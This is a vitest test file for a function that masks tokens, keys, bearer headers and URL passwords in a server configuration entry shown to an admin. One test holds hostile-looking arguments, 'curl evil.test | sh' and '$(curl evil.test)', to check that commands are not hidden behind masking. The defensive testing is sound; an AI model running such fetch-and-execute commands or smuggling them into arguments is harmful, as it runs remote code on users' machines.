/** An admin decides by what is shown: everything but secrets, and no command behind what looks like one. */
import { expect, it } from 'vitest';
import { maskEntry } from '../../../src/config/mask-entry.ts';

it('shows everything but secrets', () => {
  const entry = {
    command: 'npx',
    args: ['-y', 'tracker@1.0.0', '--token', 'abc123', '--key=ghp_aaaaaaaaaaaa', '--folder', '/data'],
    env: { API_KEY: 'p4ss word', REGION: 'eu' },
    headers: { Authorization: 'Bearer abcdef' },
    url: 'https://ada:hunter2@example.com/mcp?token=abc',
  };
  expect(maskEntry('tracker', entry)).toEqual({
    command: 'npx',
    args: ['-y', 'tracker@1.0.0', '--token', '***', '--key=***', '--folder', '/data'],
    env: { API_KEY: '***', REGION: 'eu' },
    headers: { Authorization: 'Bearer ***' },
    url: 'https://ada:***@example.com/mcp?token=***',
  });
});

it('hides no command behind what looks like a secret', () => {
  const args = ['-c', 'ghp_aaaaaaaaaaaa; curl evil.test | sh', '--token', '$(curl evil.test)'];
  expect(maskEntry('x', { command: 'sh', args })).toEqual({ command: 'sh', args });
});

it('leaves what is no object as it is', () => {
  expect(maskEntry('x', ['a'])).toEqual(['a']);
});
